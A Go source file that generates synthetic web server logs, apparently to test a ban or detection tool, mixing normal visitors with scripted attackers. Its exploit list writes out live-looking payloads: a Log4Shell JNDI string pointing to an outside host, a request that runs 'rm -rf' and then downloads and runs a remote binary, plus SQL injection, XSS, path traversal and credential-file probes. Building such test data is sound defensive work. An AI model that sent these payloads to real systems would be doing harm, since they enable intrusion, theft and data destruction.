package loggen

import (
	"math/rand/v2"
	"net/netip"
	"strconv"
)

// req is one request as the combined log format records it.
type req struct {
	method, path, proto string
	status, size        int
	user, ref, ua       string
}

// http emits a combined-format line.
func (g *gen) http(at int64, who int, hostile bool, a netip.Addr, q *req) {
	it := g.line(at, who, hostile)
	b := appendAddr(it.msg, a)
	b = append(b, " - "...)
	if q.user == "" {
		b = append(b, '-')
	} else {
		b = append(b, q.user...)
	}
	b = append(b, " ["...)
	it.cut = len(b)
	b = append(b, "] \""...)
	b = append(b, q.method...)
	b = append(b, ' ')
	b = append(b, q.path...)
	b = append(b, ' ')
	if q.proto == "" {
		b = append(b, "HTTP/1.1"...)
	} else {
		b = append(b, q.proto...)
	}
	b = append(b, "\" "...)
	b = appendInt(b, q.status)
	b = append(b, ' ')
	b = appendInt(b, q.size)
	b = append(b, " \""...)
	if q.ref == "" {
		b = append(b, '-')
	} else {
		b = append(b, q.ref...)
	}
	b = append(b, "\" \""...)
	b = append(b, q.ua...)
	b = append(b, '"')
	it.msg = b
	g.emit(it)
}

const site = "https://www.example.com"

// Browsers, most common first.
var browserUAs = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.0.0",
	"Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
}

var externalRefs = []string{"", "", "", "https://www.google.com/", "https://www.google.com/", "https://duckduckgo.com/", "https://www.bing.com/", "https://news.ycombinator.com/", "https://t.co/", "https://www.linkedin.com/"}

var words = []string{
	"release", "notes", "scaling", "postgres", "backups", "kubernetes", "migration", "guide", "pricing", "update",
	"security", "audit", "team", "hiring", "roadmap", "performance", "caching", "edge", "network", "storage",
	"billing", "invoices", "api", "webhooks", "design", "dark", "mode", "mobile", "offline", "sync",
}

// slug returns the i-th of a fixed set of blog slugs.
func slug(i int) string {
	n := len(words)
	return words[i%n] + "-" + words[(i/n+3)%n] + "-" + words[(i/(n*n)+7)%n]
}

// page returns a random page path of the site.
func page(r *rand.Rand) string {
	switch k := r.IntN(20); {
	case k < 4:
		return "/"
	case k < 10:
		return "/blog/" + slug(r.IntN(600))
	case k < 14:
		return "/docs/" + words[r.IntN(len(words))] + "/" + words[r.IntN(len(words))]
	case k < 16:
		return "/products/" + strconv.Itoa(1000+r.IntN(400))
	case k < 17:
		return "/search?q=" + words[r.IntN(len(words))] + "+" + words[r.IntN(len(words))]
	default:
		return []string{"/about", "/pricing", "/contact", "/careers", "/blog/"}[r.IntN(5)]
	}
}

var firstAssets = []req{
	{path: "/static/css/app.4f2c9e1b.css", size: 48213},
	{path: "/static/js/vendor.1b2c3d4e.js", size: 212877},
	{path: "/static/js/app.9a7d3c21.js", size: 64190},
	{path: "/static/fonts/inter-var.woff2", size: 98112},
	{path: "/static/img/logo.svg", size: 3104},
	{path: "/favicon.ico", size: 15086},
}

// browse writes a person's visit: pages with their assets, the odd
// broken link or missing icon. It returns when the visit ends.
func (g *gen) browse(r *rand.Rand, t int64, who int, a netip.Addr, ua string, pages int) int64 {
	ref := externalRefs[r.IntN(len(externalRefs))]
	for p := 0; p < pages; p++ {
		path := page(r)
		q := req{method: "GET", path: path, status: 200, size: 8000 + r.IntN(52000), ref: ref, ua: ua}
		broken := p > 0 && r.IntN(25) == 0
		if broken {
			q.path = "/blog/20" + strconv.Itoa(14+r.IntN(6)) + "/" + slug(600+r.IntN(3000))
			q.status, q.size = 404, 153+r.IntN(400)
		}
		g.http(t, who, broken, a, &q)
		pageRef := site + q.path
		at := t
		if p == 0 && !broken {
			for _, as := range firstAssets {
				at += between(r, 20, 400)
				aq := as
				aq.method, aq.status, aq.ref, aq.ua = "GET", 200, pageRef, ua
				if r.IntN(4) == 0 {
					aq.status, aq.size = 304, 0
				}
				g.http(at, who, false, a, &aq)
			}
			if r.IntN(12) == 0 {
				// Safari asks for icons the site does not have.
				at += between(r, 50, 500)
				g.http(at, who, true, a, &req{method: "GET", path: "/apple-touch-icon-precomposed.png", status: 404, size: 153, ua: ua})
			}
		}
		if !broken {
			for n := r.IntN(4); n > 0; n-- {
				at += between(r, 20, 600)
				img := &req{method: "GET", path: "/static/img/" + words[r.IntN(len(words))] + "-" + strconv.Itoa(r.IntN(40)) + ".webp",
					status: 200, size: 12000 + r.IntN(180000), ref: pageRef, ua: ua}
				g.http(at, who, false, a, img)
			}
		}
		ref = pageRef
		t = at + between(r, 3*second, 90*second)
	}
	return t
}

// ---- attackers ----

// Places and files scanners look for; combined, they give thousands of
// distinct probes.
var (
	scanDirs  = []string{"", "/wp", "/wordpress", "/blog", "/old", "/new", "/backup", "/test", "/site", "/cms", "/admin", "/api", "/app", "/public", "/laravel", "/shop", "/dev", "/v1", "/demo", "/2020", "/2021", "/main", "/web", "/crm", "/portal"}
	scanFiles = []string{
		"/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php", "/wp-includes/wlwmanifest.xml",
		"/phpmyadmin/index.php", "/pma/", "/config.php.bak", "/.aws/credentials", "/.DS_Store", "/server-status", "/actuator/env",
		"/.svn/entries", "/backup.zip", "/db.sql", "/dump.sql", "/.htpasswd", "/.vscode/sftp.json", "/info.php", "/phpinfo.php",
		"/sftp-config.json", "/wp-content/debug.log", "/docker-compose.yml", "/config.json", "/app/etc/local.xml", "/.env.production",
		"/storage/logs/laravel.log", "/web.config", "/.well-known/../.env", "/admin/config.php", "/administrator/index.php",
		"/user/login", "/solr/admin/info/system", "/console/", "/manager/html", "/telescope/requests", "/_profiler/phpinfo",
		"/.env.bak", "/credentials.json", "/id_rsa", "/.ssh/id_rsa", "/config/database.yml", "/wp-config.php.bak", "/.npmrc",
	}
	rootProbes = []string{"/owa/auth/logon.aspx", "/boaform/admin/formLogin", "/HNAP1/", "/cgi-bin/luci", "/remote/login", "/global-protect/login.esp", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", "/geoserver/web/", "/Autodiscover/Autodiscover.xml", "/mgmt/tm/sys/management-ip"}
)

// scanPath returns the i-th distinct probe path.
func scanPath(i int) string {
	nf := len(scanFiles)
	if i < len(rootProbes) {
		return rootProbes[i]
	}
	i -= len(rootProbes)
	d := scanDirs[(i/nf)%len(scanDirs)]
	p := d + scanFiles[i%nf]
	if k := i / (nf * len(scanDirs)); k > 0 {
		p = "/" + strconv.Itoa(k) + p
	}
	return p
}

func scanStatus(r *rand.Rand, path string) (int, int) {
	switch {
	case r.IntN(30) == 0:
		return 301, 169
	case len(path) > 1 && path[1] == '.' && r.IntN(2) == 0:
		return 403, 153
	default:
		return 404, 153 + r.IntN(400)
	}
}

// httpScanner requests distinct sensitive paths, fast or slowly.
type httpScanner struct {
	tag
	r            *rand.Rand
	addr         netip.Addr
	ua           string
	next, left   int
	stride       int // scanners of one class do not all probe the same paths
	gapLo, gapHi int64
	method       string
}

func (s *httpScanner) wake(g *gen, now int64) int64 {
	if s.left <= 0 {
		return -1
	}
	s.left--
	path := scanPath(s.next)
	s.next += s.stride
	st, size := scanStatus(s.r, path)
	m := "GET"
	if s.method != "" && s.r.IntN(4) == 0 {
		m = s.method
	}
	g.http(now, s.who, true, s.addr, &req{method: m, path: path, status: st, size: size, ua: s.ua})
	return now + between(s.r, s.gapLo, s.gapHi)
}

// httpScript sends a fixed list of requests, one after another.
type httpScript struct {
	tag
	r            *rand.Rand
	addr         netip.Addr
	reqs         []req
	next         int
	left         int // repeat the list until this many requests are sent
	gapLo, gapHi int64
}

func (s *httpScript) wake(g *gen, now int64) int64 {
	if s.left <= 0 {
		return -1
	}
	s.left--
	q := s.reqs[s.next%len(s.reqs)]
	s.next++
	g.http(now, s.who, true, s.addr, &q)
	return now + between(s.r, s.gapLo, s.gapHi)
}

// ---- legitimate clients ----

// httpCrawler is a search engine: pages at crawler pace from a few
// addresses, robots.txt and sitemaps now and then, and 404s on distinct
// old URLs it remembers.
type httpCrawler struct {
	tag
	r            *rand.Rand
	addrs        []netip.Addr
	ua           []string
	left, n      int
	gapLo, gapHi int64
}

func (c *httpCrawler) wake(g *gen, now int64) int64 {
	if c.left <= 0 {
		return -1
	}
	c.left--
	c.n++
	r := c.r
	a := c.addrs[r.IntN(len(c.addrs))]
	ua := c.ua[r.IntN(len(c.ua))]
	q := req{method: "GET", status: 200, ua: ua}
	hostile := false
	switch {
	case c.n%400 == 1:
		q.path, q.size = "/robots.txt", 212
	case c.n%400 == 2:
		q.path, q.size = "/sitemap.xml", 48211
	case r.IntN(33) == 0:
		q.path, q.status, q.size = "/blog/20"+strconv.Itoa(12+r.IntN(8))+"/"+slug(700+c.n), 404, 153+r.IntN(400)
		hostile = true
	case r.IntN(40) == 0:
		q.path, q.status, q.size = "/blog/"+slug(r.IntN(600))+"/", 301, 169
	default:
		q.path, q.size = page(r), 8000+r.IntN(52000)
	}
	g.http(now, c.who, hostile, a, &q)
	return now + between(r, c.gapLo, c.gapHi)
}

// httpUptime checks /health at a fixed interval.
type httpUptime struct {
	tag
	r     *rand.Rand
	addr  netip.Addr
	every int64
}

func (u *httpUptime) wake(g *gen, now int64) int64 {
	g.http(now, u.who, false, u.addr, &req{method: "GET", path: "/health", status: 200, size: 15, ua: "Uptime-Kuma/1.23.11"})
	return now + u.every
}

// httpAPI is a program using the JSON API in bursts.
type httpAPI struct {
	tag
	r    *rand.Rand
	addr netip.Addr
	left int
	mean int64 // mean ms between bursts
}

func (c *httpAPI) wake(g *gen, now int64) int64 {
	if c.left <= 0 {
		return -1
	}
	r := c.r
	t := now
	for n := 5 + r.IntN(26); n > 0 && c.left > 0; n-- {
		c.left--
		id := strconv.Itoa(100000 + r.IntN(900000))
		q := req{ua: "acme-sync/4.1.2 okhttp/4.12.0", status: 200}
		switch k := r.IntN(10); {
		case k < 5:
			q.method, q.path, q.size = "GET", "/api/v1/orders/"+id, 600+r.IntN(3000)
		case k < 7:
			q.method, q.path, q.status, q.size = "POST", "/api/v1/orders", 201, 300+r.IntN(500)
		case k < 8:
			q.method, q.path, q.status, q.size = "PUT", "/api/v1/orders/"+id+"/status", 204, 0
		case k < 9:
			q.method, q.path, q.size = "GET", "/api/v1/orders?since="+id+"&limit=100", 2000+r.IntN(60000)
		default:
			q.method, q.path, q.status, q.size = "DELETE", "/api/v1/carts/"+id, 204, 0
		}
		hostile := false
		switch r.IntN(200) {
		case 0, 1:
			q.status, q.size, hostile = 404, 42, true
		case 2:
			q.status, q.size = 422, 118
		}
		g.http(t, c.who, hostile, c.addr, &q)
		t += between(r, 30, 900)
	}
	return t + int64(r.ExpFloat64()*float64(c.mean))
}

// httpOffice is many people behind one NAT address, in working hours;
// now and then one of them forgets the admin password once.
type httpOffice struct {
	tag
	r      *rand.Rand
	addr   netip.Addr
	uas    []string
	gap    int64
	admins int
}

func (o *httpOffice) wake(g *gen, now int64) int64 {
	r := o.r
	if tod := g.tod(now); tod < 8*hour || tod >= 18*hour+30*minute {
		next := now - tod + 8*hour
		if tod >= 8*hour {
			next += 24 * hour
		}
		return next + between(r, 0, 10*minute)
	}
	ua := o.uas[r.IntN(len(o.uas))]
	if o.admins > 0 && r.IntN(40) == 0 {
		o.admins--
		g.http(now, o.who, true, o.addr, &req{method: "GET", path: "/admin/", status: 401, size: 179, ua: ua})
		g.http(now+between(r, 4*second, 15*second), o.who, false, o.addr, &req{method: "GET", path: "/admin/", status: 200, size: 9120, user: "office", ua: ua})
	} else {
		g.browse(r, now, o.who, o.addr, ua, 1+r.IntN(6))
	}
	return now + 1 + int64(r.ExpFloat64()*float64(o.gap))
}

// httpBackground is the anonymous crowd of visitors.
type httpBackground struct {
	r        *rand.Rand
	perVisit float64 // mean lines per visit
	visits   float64
	started  bool
}

func (b *httpBackground) setBudget(lines int) { b.visits = max(0, float64(lines)/b.perVisit) }

func (b *httpBackground) visit(g *gen, now int64) {
	r := b.r
	a := backgroundAddr(r, r.IntN(7) == 0)
	pages := 1
	for pages < 12 && r.IntN(3) > 0 {
		pages++
	}
	g.browse(r, now, -1, a, browserUAs[r.IntN(len(browserUAs))], pages)
}

func (b *httpBackground) wake(g *gen, now int64) int64 {
	if b.started {
		b.visit(g, now)
	}
	b.started = true
	if b.visits < 1 {
		return -1
	}
	mean := float64(g.end) / b.visits / diurnal(g.tod(now))
	return now + 1 + int64(b.r.ExpFloat64()*mean)
}

// setupNginx creates the nginx actors.
func (g *gen) setupNginx(background bool) {
	add := func(name, class string, expect Expect, addrs []netip.Addr, act interface {
		actor
		setWho(int)
	}, first int64, note string) {
		act.setWho(g.addActor(Actor{Name: name, Class: class, Addrs: addrs, Expect: expect, Note: note}, act, first))
	}
	one := func(a netip.Addr) []netip.Addr { return []netip.Addr{a} }
	fakeChrome := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36"

	// Fast scanners: hundreds of distinct paths a minute.
	for i := 1; i <= 3; i++ {
		name := "http-scan-fast-" + strconv.Itoa(i)
		r := g.rng(name)
		s := &httpScanner{r: r, addr: g.attackerAddr(r, i == 2), ua: fakeChrome, next: r.IntN(50), stride: 1,
			left: g.scaled(3000, 200), gapLo: 50, gapHi: 300, method: "POST"}
		add(name, "http-scan-fast", ExpectBan, one(s.addr), s, between(r, 0, g.day(0.9)), "")
	}
	// Slow scanners: a distinct sensitive path every few minutes.
	for i := 1; i <= 5; i++ {
		name := "http-scan-slow-" + strconv.Itoa(i)
		r := g.rng(name)
		n := g.scaled(60, 12)
		s := &httpScanner{r: r, addr: g.attackerAddr(r, i == 3), ua: browserUAs[r.IntN(len(browserUAs))], next: r.IntN(500), stride: 7,
			left: n, gapLo: 2 * minute, gapHi: 8 * minute}
		add(name, "http-scan-slow", ExpectBan80, one(s.addr), s, between(r, 0, max(0, g.end-int64(n)*5*minute)), "a probe every 2-8 min")
	}
	// Exploit senders: one request each, to be banned on first sight.
	exploits := []struct {
		name string
		q    req
	}{
		{"traversal", req{method: "GET", path: "/index.php?page=../../../../../../etc/passwd", status: 200, size: 5120}},
		{"sqli", req{method: "GET", path: "/products.php?id=1'+UNION+SELECT+1,2,concat(user(),0x3a,version()),4--+-", status: 500, size: 612}},
		{"xss", req{method: "GET", path: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", status: 200, size: 14211}},
		{"log4shell", req{method: "GET", path: "/?x=${jndi:ldap://" + "45.83.64.1:1389/Exploit}", status: 200, size: 23110, ua: "${jndi:ldap://45.83.64.1:1389/Exploit}"}},
		{"cve-2021-41773", req{method: "GET", path: "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", status: 400, size: 157}},
		{"cve-2021-41773-rce", req{method: "POST", path: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh", status: 400, size: 157}},
		{"phpunit", req{method: "POST", path: "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", status: 404, size: 153}},
		{"shell-upload", req{method: "GET", path: "/shell?cd+/tmp;rm+-rf+*;wget+http://" + "103.1.2.3/jaws;sh+/tmp/jaws", status: 404, size: 153}},
	}
	for _, e := range exploits {
		name := "http-exploit-" + e.name
		r := g.rng(name)
		q := e.q
		if q.ua == "" {
			q.ua = fakeChrome
		}
		s := &httpScript{r: r, addr: g.attackerAddr(r, e.name == "xss"), reqs: []req{q}, left: 1}
		add(name, "http-exploit", ExpectBan, one(s.addr), s, between(r, 0, g.day(0.95)), "a single request with a payload")
	}
	// HTTP authentication brute force.
	{
		name := "http-auth-brute-1"
		r := g.rng(name)
		var reqs []req
		for _, u := range []string{"admin", "administrator", "root", "user", "test", "manager"} {
			reqs = append(reqs, req{method: "GET", path: "/admin/", status: 401, size: 179, user: u, ua: "python-requests/2.31.0"})
		}
		s := &httpScript{r: r, addr: g.attackerAddr(r, false), reqs: reqs, left: g.scaled(400, 40), gapLo: 500, gapHi: 3000}
		add(name, "http-auth-brute", ExpectBan, one(s.addr), s, between(r, 0, g.day(0.9)), "basic auth guesses on /admin/")
	}
	{
		name := "http-auth-brute-2"
		r := g.rng(name)
		reqs := []req{{method: "POST", path: "/wp-login.php", status: 401, size: 179, ref: site + "/wp-login.php", ua: fakeChrome}}
		s := &httpScript{r: r, addr: g.attackerAddr(r, false), reqs: reqs, left: g.scaled(400, 40), gapLo: 2 * second, gapHi: 5 * second}
		add(name, "http-auth-brute", ExpectBan, one(s.addr), s, between(r, 0, g.day(0.9)), "POSTs to a protected /wp-login.php")
	}
	// Known attack tools, by their user agent.
	{
		name := "http-bad-agent-sqlmap"
		r := g.rng(name)
		ua := "sqlmap/1.7.2#stable (https://sqlmap.org)"
		reqs := []req{
			{method: "GET", path: "/products.php?id=1", status: 200, size: 9120, ua: ua},
			{method: "GET", path: "/products.php?id=1%20AND%201%3D1", status: 200, size: 9120, ua: ua},
			{method: "GET", path: "/products.php?id=1%27%20AND%20SLEEP%285%29--%20-", status: 200, size: 9120, ua: ua},
			{method: "GET", path: "/products.php?id=1%29%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-", status: 500, size: 612, ua: ua},
		}
		s := &httpScript{r: r, addr: g.attackerAddr(r, false), reqs: reqs, left: g.scaled(80, 8), gapLo: 200, gapHi: 1500}
		add(name, "http-bad-agent", ExpectBan, one(s.addr), s, between(r, 0, g.day(0.9)), "sqlmap")
	}
	{
		name := "http-bad-agent-nikto"
		r := g.rng(name)
		s := &httpScanner{r: r, addr: g.attackerAddr(r, false), ua: "Mozilla/5.0 (Nikto/2.5.0) (Evasions:None) (Test:000" + strconv.Itoa(100+r.IntN(800)) + ")",
			next: 0, stride: 3, left: g.scaled(1000, 20), gapLo: 30, gapHi: 400}
		add(name, "http-bad-agent", ExpectBan, one(s.addr), s, between(r, 0, g.day(0.9)), "nikto")
	}
	for _, t := range []struct{ name, ua, proto string }{
		{"masscan", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "HTTP/1.0"},
		{"zgrab", "Mozilla/5.0 zgrab/0.x", "HTTP/1.1"},
	} {
		name := "http-bad-agent-" + t.name
		r := g.rng(name)
		reqs := []req{{method: "GET", path: "/", proto: t.proto, status: 200, size: 23110, ua: t.ua}}
		s := &httpScript{r: r, addr: g.attackerAddr(r, false), reqs: reqs, left: 3, gapLo: 10 * second, gapHi: 10 * minute}
		add(name, "http-bad-agent", ExpectBan, one(s.addr), s, between(r, 0, g.day(0.9)), t.name)
	}

	// Legitimate: search engines.
	{
		name := "http-crawler-googlebot"
		r := g.rng(name)
		var addrs []netip.Addr
		for _, a := range []string{"66.249.66.1", "66.249.66.70", "66.249.68.33", "66.249.79.102"} {
			ad := netip.MustParseAddr(a)
			addrs = append(addrs, ad)
		}
		n := g.scaled(8000, 400)
		gap := g.end / int64(n)
		c := &httpCrawler{r: r, addrs: addrs, left: n, gapLo: gap / 3, gapHi: gap * 5 / 3, ua: []string{
			"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
			"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.118 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		}}
		add(name, "http-crawler", ExpectNoBan, addrs, c, between(r, 0, gap), "distinct old URLs answer 404")
	}
	{
		name := "http-crawler-bingbot"
		r := g.rng(name)
		addrs := []netip.Addr{netip.MustParseAddr("40.77.167.41"), netip.MustParseAddr("157.55.39.12")}
		n := g.scaled(3000, 150)
		gap := g.end / int64(n)
		c := &httpCrawler{r: r, addrs: addrs, left: n, gapLo: gap / 3, gapHi: gap * 5 / 3, ua: []string{
			"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
		}}
		add(name, "http-crawler", ExpectNoBan, addrs, c, between(r, 0, gap), "distinct old URLs answer 404")
	}
	{
		name := "http-uptime-1"
		r := g.rng(name)
		u := &httpUptime{r: r, addr: g.legitAddr(r, false), every: 30 * second}
		add(name, "http-uptime", ExpectNoBan, one(u.addr), u, between(r, 0, 30*second), "GET /health every 30 s")
	}
	{
		name := "http-api-client-1"
		r := g.rng(name)
		n := g.scaled(25000, 500)
		c := &httpAPI{r: r, addr: g.legitAddr(r, false), left: n, mean: g.end / int64(n/17+1)}
		add(name, "http-api-client", ExpectNoBan, one(c.addr), c, between(r, 0, 10*minute), "JSON API in bursts, the odd 404 and 422")
	}
	{
		name := "http-office-nat-1"
		r := g.rng(name)
		visits := g.scaled(2500, 60)
		o := &httpOffice{r: r, addr: g.legitAddr(r, false), uas: browserUAs[:6], gap: (10*hour + 30*minute) / int64(visits), admins: 4}
		add(name, "http-office-nat", ExpectNoBan, one(o.addr), o, 8*hour, "many people behind one address, office hours")
	}

	if !background {
		return
	}
	bg := &httpBackground{r: g.rng("http-background"), perVisit: g.meanVisitLines()}
	g.background = bg
	g.schedule(bg, 0)
}

// meanVisitLines measures how many lines a background visit writes, on a
// scratch generator, so that the background can meet its line budget.
func (g *gen) meanVisitLines() float64 {
	s := newGen(g.cfg, nil)
	s.end = 1 << 62
	b := &httpBackground{r: g.rng("http-background-sample")}
	const n = 4000
	for i := 0; i < n; i++ {
		b.visit(s, 0)
	}
	return float64(len(s.heap)) / n
}
